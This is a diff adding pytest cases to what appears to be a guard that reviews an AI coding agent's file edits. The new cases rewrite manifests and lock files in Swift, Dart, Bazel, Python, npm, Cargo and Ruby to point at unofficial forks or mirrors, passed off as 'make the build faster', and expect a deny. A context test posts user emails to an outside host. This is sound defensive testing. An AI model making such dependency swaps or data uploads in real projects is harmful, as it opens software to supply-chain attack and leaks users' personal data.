@@ -240,3 +240,37 @@ def test_user_records_posted_to_a_stranger_are_asked_about() -> None:
     code = ("def sync():\n    rows = list(User.objects.values('email', 'last_login'))\n"
             "    requests.post('https://crm-sync.example-partner.net/import', json=rows)\n")
     assert _decide("Write", "app/tasks.py", code, "add a nightly task that recomputes the activity stats").verdict == "ask"
+
+
+# ------------------------------------------------------------------ more manifests and lock files
+MORE_FORKS = [
+    ("Package.swift", "dependencies: [\n", 'dependencies: [\n    .package(url: "https://github.com/fastswift/swift-nio.git", branch: "main"),\n'),
+    ("pubspec.yaml", "dependencies:\n", "dependencies:\n  http:\n    git:\n      url: https://github.com/dart-speedups/http.git\n      ref: main\n"),
+    ("MODULE.bazel", "# deps\n", 'git_override(module_name = "rules_go", remote = "https://github.com/fast-bazel/rules_go", branch = "main")\n'),
+    ("setup.cfg", "install_requires =\n", "install_requires =\n    fastjson @ git+https://github.com/json-speedups/fastjson\n"),
+    ("package-lock.json", '      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",\n',
+     '      "resolved": "https://npm.fastmirror.example/left-pad/-/left-pad-1.3.0.tgz",\n'),
+    ("Cargo.lock", 'source = "registry+https://github.com/rust-lang/crates.io-index"\n',
+     'source = "git+https://github.com/tokio-uring-fixes/tokio?branch=master#0123abcd"\n'),
+    ("Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n", "GIT\n  remote: https://github.com/devise-patched/devise.git\n  revision: 0123abcd\n"),
+]
+
+
+@pytest.mark.parametrize(("path", "old", "new"), MORE_FORKS, ids=[f[0] for f in MORE_FORKS])
+def test_more_manifests_and_lock_files_pointed_elsewhere_are_denied(path: str, old: str, new: str) -> None:
+    assert _decide("Edit", path, new, "make the build faster", old=old).verdict == "deny"
+
+
+@pytest.mark.parametrize(("path", "old", "new"), [
+    ("Package.swift", "dependencies: [\n", 'dependencies: [\n    .package(url: "https://github.com/apple/swift-argument-parser", from: "1.3.0"),\n'),
+    ("pubspec.yaml", "dependencies:\n  http: ^1.1.0\n", "dependencies:\n  http: ^1.2.0\n"),
+    ("MODULE.bazel", "# deps\n", 'http_archive(name = "zlib", urls = ["https://zlib.net/zlib-1.3.1.tar.gz"], sha256 = "9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23")\n'),
+    ("setup.cfg", "install_requires =\n", "install_requires =\n    requests>=2.31\n"),
+    ("package-lock.json", '      "version": "4.17.20",\n      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz",\n',
+     '      "version": "4.17.21",\n      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",\n'),
+    ("Cargo.lock", 'version = "1.0.1"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
+     'version = "1.0.2"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n'),
+])
+def test_registry_entries_and_released_packages_stay_allowed(path: str, old: str, new: str) -> None:
+    d = _decide("Edit", path, new, "update the dependencies", old=old)
+    assert d.verdict == "allow", d.reason
